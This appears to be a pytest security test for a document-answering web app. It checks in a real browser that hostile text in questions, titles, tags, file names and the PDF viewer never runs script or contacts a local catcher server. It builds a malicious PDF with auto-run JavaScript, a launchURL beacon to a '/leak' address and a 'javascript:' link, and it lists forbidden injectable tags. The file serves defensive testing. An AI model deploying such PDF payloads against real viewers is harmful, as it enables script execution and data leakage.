"""Nothing that is shown runs a script or asks anybody for anything by itself: hostile texts in every place that the page
shows, hostile files opened directly, in a real Chromium beside a local server that must never be asked.

    python3 -m pytest tests/web/hostile_page_test.py        JACKDAW_BINARY names another program than build/dev/jackdaw
"""

import http.server
import pathlib
import shutil
import sys
import threading
import urllib.parse

import pytest

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "support"))

from app_page import Page, Program, by
from hostile_text import hostile_files, request_payloads, script_payloads
from pdf_files import assemble

pytestmark = pytest.mark.skipif(not shutil.which("chromedriver"), reason="chromedriver is not installed (Debian packages chromium, chromium-driver)")

AT_ONCE = 6000  # characters of one question
FORBIDDEN = "img, iframe, frame, script, style, link, object, embed, video, audio, source, form[action], meta, base, svg image, svg use, template, portal"


class Catcher:
    """A server that notes who asks it."""

    def __init__(self):
        self.asked = asked = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def handle_one_request(self):
                asked.append(self.rfile.readline(200))

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.origin = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="module")
def catcher():
    with Catcher() as running:
        yield running


@pytest.fixture(scope="module")
def browser():
    with Page(width=1280, height=900) as page:
        yield page


@pytest.fixture(scope="module")
def payloads(catcher):
    scripts, requests = script_payloads(), request_payloads(catcher.origin)
    assert len(scripts) >= 500 and len(requests) >= 300
    return scripts + requests


@pytest.fixture(scope="module")
def program(tmp_path_factory, payloads):
    """Says what it is asked; documents, names, titles and tags are hostile too."""
    made = Program(tmp_path_factory.mktemp("hostile") / "p", [{"echo": "question"}, {"text": " [1][2] [9]"}])
    for number in range(0, len(payloads), 60):
        texts = payloads[number:number + 60]
        name = texts[0].replace("\x00", "")[:80]
        # Plain text, not HTML: what is found is what is written here.
        text = "Some notes.\n\n" + "\n\n".join(f"{text} and some words" for text in texts).replace("\x00", "").replace("\x01", "")
        document = made.add(urllib.parse.quote(name + ".txt", safe=""), text.encode())
        made.request("PATCH", f"/v1/documents/{document}", {"title": texts[1 % len(texts)].replace("\x00", "").strip()[:400] or "x"})
        for tag in texts[2:8]:  # one that is refused takes no other with it
            tags = made.get(f"/v1/documents/{document}")["tags"]
            made.request("PATCH", f"/v1/documents/{document}", {"tags": [*tags, tag[:60]]})
    yield made
    made.stop()


def batches(payloads):
    """Questions that hold them all."""
    batch, length = [], 0
    for text in payloads:
        if length + len(text) > AT_ONCE and batch:
            yield batch
            batch, length = [], 0
        batch.append(text)
        length += len(text) + 2
    yield batch


def check(page, catcher, program, where):
    """Nothing ran, nothing was asked for, and nothing stands on the page that could."""
    assert page.run("return window.__ran ?? null") is None, where
    assert page.run("return location.origin") == program.url, where
    found = page.run("return [...document.querySelectorAll('main, aside, .toasts, .preview')].flatMap((part) => [...part.querySelectorAll(arguments[0])])"
                     ".map((each) => each.outerHTML.slice(0, 200))", FORBIDDEN)
    assert found == [], (where, found)
    handlers = page.run("return [...document.querySelectorAll('*')].flatMap((each) => each.getAttributeNames().filter((name) => name.startsWith('on')))")
    assert handlers == [], (where, handlers)
    links = page.run("return [...document.querySelectorAll('main a[href]')].filter((a) => !a.getAttribute('href').startsWith('#') && new URL(a.href).origin !== location.origin)"
                     ".map((a) => [a.href, a.parentElement.textContent, a.rel, a.ping])")
    for href, shown, rel, ping in links:
        assert href.startswith(("http://", "https://")) and "noopener" in rel and "noreferrer" in rel and not ping, (where, href)
        # The address is to be read beside it, as it will be asked for or as it was written.
        assert any(form in shown for form in (href, urllib.parse.unquote(href), href.rstrip("/"))), (where, href, shown)
    assert catcher.asked == [], (where, catcher.asked)
    assert page.breaches() == [], where


def test_no_text_runs_in_questions_answers_titles_and_sources(browser, program, catcher, payloads):
    browser.log()
    for number, batch in enumerate(batches(payloads)):
        status, made = program.request("POST", "/v1/conversations", {"title": batch[0].replace("\x00", "").strip()[:190] or "x"})
        assert status in (201, 400), made
        if status == 400:  # a title that no title may be
            made = program.request("POST", "/v1/conversations", {})[1]
        conversation = made["conversation_id"]
        status, answer = program.request("POST", "/v1/answers", {
            "question": "\n\n".join(batch).replace("\x00", "\ufffd"), "conversation_id": conversation, "top_k": 20, "rerank": False})
        assert status == 200 and answer["status"] == "complete", answer
        browser.go(program, f"#/c/{conversation}")
        browser.ends()
        assert len(browser.answer()) > 100
        browser.touch(by("how-found"))
        if browser.count(by("more-sources")):
            browser.touch(by("more-sources"))
        for chip in range(min(2, browser.count(by("chip")))):
            browser.run("document.querySelectorAll('[data-testid=chip]')[arguments[0]].dispatchEvent(new PointerEvent('pointerenter', {bubbles: true}));"
                        "document.querySelectorAll('[data-testid=chip]')[arguments[0]].focus()", chip)
        browser.touch(by("source"))
        browser.until("the passage", lambda: browser.count(by("passages")) or browser.count(by("pages")))
        check(browser, catcher, program, f"batch {number}")


def test_no_text_runs_while_it_streams(browser, program, catcher, payloads):
    browser.log()
    browser.go(program)
    batch = max(batches(payloads), key=len)
    browser.run("const field = document.querySelector('textarea[data-testid=composer], [data-testid=composer] textarea');"
                "field.value = arguments[0]; field.dispatchEvent(new Event('input', {bubbles: true}))", "\n\n".join(batch).replace("\x00", "\ufffd"))
    browser.click(by("send"))
    browser.ends()
    check(browser, catcher, program, "streamed")


def test_no_name_title_or_tag_of_a_document_runs(browser, program, catcher):
    browser.log()
    browser.go(program, "#/documents")
    browser.until("the documents", lambda: browser.count(by("document")) >= 15)
    check(browser, catcher, program, "documents")
    browser.touch(by("document-menu"))
    check(browser, catcher, program, "a document's menu")


def javascript_pdf(origin):
    """A page whose opening runs a script, whose link asks somebody, and that wants a file from elsewhere."""
    objects = [
        "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\); app.launchURL\\('%s/leak'\\);) >> /AA << /WC << /S /JavaScript /JS (app.alert\\(2\\)) >> >> >>" % origin,
        "<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /Annots [6 0 R 7 0 R] "
        "/AA << /O << /S /URI /URI (%s/leak?page) >> >> >>" % origin,
        "<< /Length 46 >>\nstream\nBT /F1 12 Tf 60 760 Td (Words of this page) Tj ET\nendstream",
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        "<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (javascript:window.__ran=1) >> >>",
        "<< /Type /Annot /Subtype /Widget /FT /Btn /T (x) /Rect [50 700 300 800] /AA << /PV << /S /JavaScript /JS (app.alert\\(3\\)) >> >> >>",
    ]
    return assemble([text.encode() for text in objects])


def test_no_pdf_runs_in_the_viewer(browser, program, catcher):
    browser.log()
    program.add("script.pdf", javascript_pdf(catcher.origin))
    conversation = program.request("POST", "/v1/conversations", {})[1]["conversation_id"]
    document = next(each["document_id"] for each in program.get("/v1/documents?q=script.pdf")["documents"])
    program.request("POST", "/v1/answers", {"question": "Words of this page", "conversation_id": conversation, "filter": {"document_ids": [document]}})
    browser.go(program, f"#/c/{conversation}")
    browser.ends()
    browser.touch(by("source"))
    browser.until("the drawn page", lambda: browser.count('.leaf[data-drawn="true"]'))
    check(browser, catcher, program, "viewer")
    assert browser.count(".viewer a[href]") == 0


def test_no_original_runs_when_it_is_opened_directly(browser, program, catcher):
    browser.log()
    opened = 0
    for name, content in hostile_files(catcher.origin):
        status, body = program.request_bytes("POST", f"/v1/documents?wait=true&filename={name}", content)
        if status == 415:
            continue  # no document: there is nothing to open
        assert status == 200, body
        path = f"/v1/documents/{body['document_id']}/content"
        headers = program.head_of(path)
        assert headers["Content-Disposition"].startswith("attachment"), name
        assert headers["Content-Security-Policy"] == "sandbox; default-src 'none'", name
        assert headers["X-Content-Type-Options"] == "nosniff" and headers["Cross-Origin-Resource-Policy"] == "same-origin"
        browser.open("about:blank")
        browser.run("window.__ran = null")
        try:
            browser.open(program.url + path)
        except Exception as error:  # a download is no page: the driver may say so
            assert "ERR_ABORTED" in str(error) or "net::" in str(error), error
        assert browser.run("return window.__ran ?? null") is None, name
        assert b"Words of" not in browser.run("return document.body ? document.body.textContent : ''").encode(), name
        opened += 1
    assert opened >= 30
    assert catcher.asked == []
